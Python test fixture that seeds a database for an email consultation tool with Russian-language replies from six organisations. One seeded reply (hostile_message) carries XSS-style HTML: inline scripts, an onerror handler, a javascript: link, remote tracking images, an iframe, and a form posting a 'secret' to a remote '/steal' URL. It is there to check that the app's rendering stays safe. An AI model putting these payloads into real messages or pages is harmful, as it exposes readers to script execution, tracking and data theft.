"""A small consultation in a real SQLite database: six organisations, letters, replies, stance changes and
three flagged replies (one with hostile HTML, one from an unknown sender), written the way the worker does."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime

from mailmaker import Attachment, make_reply
from sqlalchemy import select
from sqlalchemy.orm import Session

from mailflow.app import App
from mailflow.campaign.letter import Audience
from mailflow.campaign.recipients import RecipientEntry
from mailflow.parse import parse_reply
from mailflow.reading.reply import ReviewReason
from mailflow.store.campaigns import sync_campaign
from mailflow.store.db import transaction
from mailflow.store.inbound import store_message
from mailflow.store.messages import keep_attachment_texts
from mailflow.store.models import InboundRow, LetterRow, RecipientRow, ReviewItemRow
from mailflow.store.recipients import import_recipients
from mailflow.store.responses import record_stances
from mailflow.store.reviews import open_review

ORGS = [
    ("Ассоциация предпринимателей Оша", "biz1@osh-business.example", Audience.BUSINESS),
    ("Союз экспортёров Кыргызстана", "biz2@export-union.example", Audience.BUSINESS),
    ("Бизнес-ассоциация Чуйской области", "biz3@chui-biz.example", Audience.BUSINESS),
    ("Фонд «Гражданская инициатива»", "cso1@civic.example", Audience.CSO),
    ("Центр правовой помощи", "cso2@legal-aid.example", Audience.CSO),
    ("Молодёжная сеть развития", "cso3@youth-net.example", Audience.CSO),
]
POSITION = Attachment("позиция.txt", "text/plain", "Позиция ассоциации: по 4.1 — против, нет ресурсов.".encode())
FLAGGED_TEXT = (
    "С рекомендациями 1.1 и 1.2 согласны. По 4.3 не согласны: у бизнеса нет средств на обучение. "
    "По 2.1 согласны, но только при условии финансирования из бюджета."
)


@dataclass(frozen=True)
class Seeded:
    now: datetime
    flagged_item: int  # cso1: reservation + condition, stances from the parser
    hostile_item: int  # cso2: HTML with a script, an event handler, a remote image and a form
    unknown_item: int  # from an address nobody was written to
    recipients: dict[str, int]  # email → id


def hostile_message(remote: str, at: datetime) -> bytes:
    """A reply whose HTML tries everything a hostile letter can: each would show on the page if it ran."""
    message = EmailMessage()
    message["From"] = "Центр правовой помощи <cso2@legal-aid.example>"
    message["To"] = "dialog@committee.example"
    message["Subject"] = "Re: Рекомендации"
    message["Message-ID"] = "<hostile-1@legal-aid.example>"
    message["Date"] = format_datetime(at)
    message.set_content("Поддерживаем рекомендацию 1.3.\n")
    message.add_alternative(
        "<html><head><style>body{background:url(" + remote + "/style-bg.png)}</style>"
        "<script>document.title='pwned-head'</script></head><body>"
        "<p>Поддерживаем рекомендацию 1.3.</p>"
        "<script>window.pwned = 1; document.title = 'pwned';</script>"
        f'<img src="x" onerror="window.pwned = 2; document.title = \'pwned-onerror\'">'
        f'<img src="{remote}/remote-pixel.png" alt="pixel">'
        f'<div style="background-image:url({remote}/div-bg.png)">фон</div>'
        f'<form action="{remote}/steal" method="post"><input name="secret" value="x">'
        "<button type=submit>Отправить</button></form>"
        '<a href="javascript:window.pwned=3">ссылка</a>'
        f'<iframe src="{remote}/frame"></iframe>'
        "</body></html>",
        subtype="html",
    )
    return message.as_bytes()


def _add_reply(
    session: Session,
    app: App,
    raw: bytes,
    *,
    recipient_id: int | None,
    at: datetime,
    flag: tuple[ReviewReason, ...] = (),
) -> int:
    """Store, parse and file one reply: stances recorded, or a review item opened when `flag` or the parser say so."""
    campaign = app.campaign()
    parsed = parse_reply(raw, campaign)
    stored = store_message(session, raw, mailbox="INBOX", uid=None, message_id=parsed.message_id)
    row = session.get(InboundRow, stored.inbound_id)
    assert row is not None
    reasons = (*parsed.review_reasons, *flag)
    row.kind, row.parsed, row.recipient_id, row.received_at = "reply", parsed.to_json(), recipient_id, at
    row.match_method = "token" if recipient_id else None
    row.status = "flagged" if reasons else "recorded"
    row.processed_at = at
    keep_attachment_texts(session, parsed.content.attachments)
    if not reasons and recipient_id is not None:
        campaign_id = session.scalars(select(RecipientRow.campaign_id).where(RecipientRow.id == recipient_id)).one()
        record_stances(
            session,
            campaign_id=campaign_id,
            recipient_id=recipient_id,
            stances=parsed.stances,
            source_message_id=row.id,
            at=at,
        )
        return 0
    open_review(session, inbound_id=row.id, recipient_id=recipient_id, reasons=reasons, at=at)
    return session.scalars(select(ReviewItemRow.id).where(ReviewItemRow.inbound_id == row.id)).one()


def seed(app: App, *, now: datetime, remote: str) -> Seeded:
    campaign = app.campaign()
    day = timedelta(days=1)
    start = now - 20 * day
    with transaction(app.sessions()) as session:
        row = sync_campaign(session, campaign)
        entries = [RecipientEntry(o, "", e, s, "", "ru") for o, e, s in ORGS]
        import_recipients(session, row, entries)
        ids = {r.email: r.id for r in session.scalars(select(RecipientRow))}
        for n, (_, email, _) in enumerate(ORGS):
            bounced = email.startswith("biz3")
            session.add(_letter(row.id, ids[email], "appeal", n, "bounced" if bounced else "sent", start))
        session.add(_letter(row.id, ids["cso3@youth-net.example"], "reminder", 99, "sent", start + 8 * day))
        session.add(_letter(row.id, ids["cso2@legal-aid.example"], "reminder", 98, "sent", start + 8 * day))

        def reply(text: str, email: str, at: datetime, n: int, files: tuple[Attachment, ...] = ()) -> bytes:
            headers = {"Message-ID": f"<reply-{n}@test.example>"}
            return make_reply(text, from_address=email, headers=headers, attachments=files)

        _add_reply(
            session, app, reply("Согласны со всеми рекомендациями.", "biz1@osh-business.example", now - 5 * day, 1),
            recipient_id=ids["biz1@osh-business.example"], at=now - 5 * day,
        )  # fmt: skip
        _add_reply(
            session, app,
            reply("По 2.1 не согласны: нет ресурсов. С 1.1 согласны.", "biz2@export-union.example", now - 12 * day, 2),
            recipient_id=ids["biz2@export-union.example"], at=now - 12 * day,
        )  # fmt: skip
        _add_reply(
            session, app,
            reply("По 2.1 согласны. По 4.3 частично согласны: сроки слишком короткие.",
                  "biz2@export-union.example", now - 3 * day, 3),
            recipient_id=ids["biz2@export-union.example"], at=now - 3 * day,
        )  # fmt: skip
        flagged = _add_reply(
            session, app, reply(FLAGGED_TEXT, "cso1@civic.example", now - 4 * day, 4),
            recipient_id=ids["cso1@civic.example"], at=now - 4 * day,
        )  # fmt: skip
        hostile = _add_reply(
            session, app, hostile_message(remote, now - 2 * day),
            recipient_id=ids["cso2@legal-aid.example"], at=now - 2 * day,
            flag=(ReviewReason("low_confidence", "Stances on 1.3 rest on a loose match; confirm them."),),
        )  # fmt: skip
        unknown = _add_reply(
            session, app,
            reply("Мы против рекомендации 4.1.", "someone@unknown.example", now - 1 * day, 5, (POSITION,)),
            recipient_id=None, at=now - 1 * day,
            flag=(ReviewReason("unknown_sender", "someone@unknown.example is not a recipient's address."),),
        )  # fmt: skip
    return Seeded(now, flagged, hostile, unknown, ids)


def _letter(campaign_id: int, recipient_id: int, kind: str, n: int, status: str, at: datetime) -> LetterRow:
    return LetterRow(
        campaign_id=campaign_id,
        recipient_id=recipient_id,
        kind=kind,
        sequence=1,
        to_address=f"r{recipient_id}@example.org",
        message_id=f"<{kind}.{n}@committee.example>",
        subject=kind,
        raw=b"",
        status=status,
        attempts=1,
        created_at=at,
        sent_at=at,
    )
